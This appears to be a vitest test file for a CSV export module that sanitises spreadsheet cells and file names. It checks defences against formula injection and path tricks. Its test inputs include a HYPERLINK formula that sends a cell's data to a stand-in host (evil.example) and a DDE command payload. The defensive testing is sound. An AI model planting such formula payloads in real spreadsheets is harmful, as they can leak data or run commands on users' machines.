import fc from 'fast-check';
import papaparse from 'papaparse';
import { describe, expect, it } from 'vitest';
import { csvName, harmless } from '../../src/components/teach/result/to-csv.ts';

const signs = [...'=+-@＝＋－＠﹦﹢﹣﹫−'];
const separators = [',', ';', '\t', '|', ':', ' ', '\n', '\r', '\r\n', '\u2028', '\u2029', '\u0085', '\v', '\f'];
/** The cells that a spreadsheet may make of a text, whichever signs it parts at, quotes and blanks taken away. */
const cells = (text: string): string[] => text.split(/[,;|:\s\u0085]/u).flatMap((cell) => [cell, cell.replace(/^"+/u, '')]);

it.each([
  [null, 'results.csv'],
  ['Three doors', 'results-three-doors.csv'],
  ['Ääni & 4: „Wo?“', 'results-aani-4-wo.csv'],
  ['../../etc/passwd\n\u202efdp.exe', 'results-etc-passwd-fdp-exe.csv'],
  ['مسائل ۳', 'results-مسائل-۳.csv'],
  ['--', 'results.csv'],
  ['a '.repeat(100), `results${'-a'.repeat(26)}.csv`],
])('the file has the name of its set: %j', (title, name) => {
  expect(csvName(title)).toBe(name);
});

describe('a text in a file for spreadsheets', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?"&A1,"x")\ny', '\'=HYPERLINK("http://evil.example/?"&A1,"x") y'],
    ['x\n=1+1', "x '=1+1"],
    ['x\u2028=1+1', "x '=1+1"],
    ['x;=3+3;y', "x;'=3+3;y"],
    ['＝1+1', "'＝1+1"],
    ['\t=1', " '=1"],
    ['\r@SUM(A1)', " '@SUM(A1)"],
    ['"=1+1', '"\'=1+1'],
    ['  -2+3', "  '-2+3"],
    ["=cmd|'/c calc'!A1", "'=cmd|'/c calc'!A1"],
  ])('is run by none: %j', (text, safe) => {
    expect(harmless(text)).toBe(safe);
  });

  it.each(['Anna-Maria', 'Anna - Maria', 'O’Brien, J.', '1 Where does the 4 go?', '7b', 'clean', 'x=1', 'aino@example.org'])(
    'stays as it is where nothing in it can be run: %s',
    (text) => {
      expect(harmless(text)).toBe(text);
    },
  );

  it('has no sign of a formula at the beginning of any part of it, nor a control sign', () => {
    const piece = fc.constantFrom(...signs, ...separators, '"', "'", 'x', '1', 'A1', '😀', '\u200b', '\u0301');
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 12 }), (pieces) => {
        const safe = harmless(pieces.join(''));
        expect(safe).not.toMatch(/[\p{Cc}\p{Zl}\p{Zp}]/u);
        // A sign alone between blanks is no formula.
        for (const cell of cells(safe)) if (cell.length > 1 && !cell.startsWith("'")) expect(signs).not.toContain(cell.at(0));
      }),
    );
  });

  it('is read back from the file as it was written', () => {
    const rows = [['a "b"', 'c;d, e', ''].map(harmless), ['=1', 'x\ny', "'"].map(harmless)];
    expect(papaparse.parse(papaparse.unparse(rows, { quotes: true })).data).toEqual(rows);
  });
});
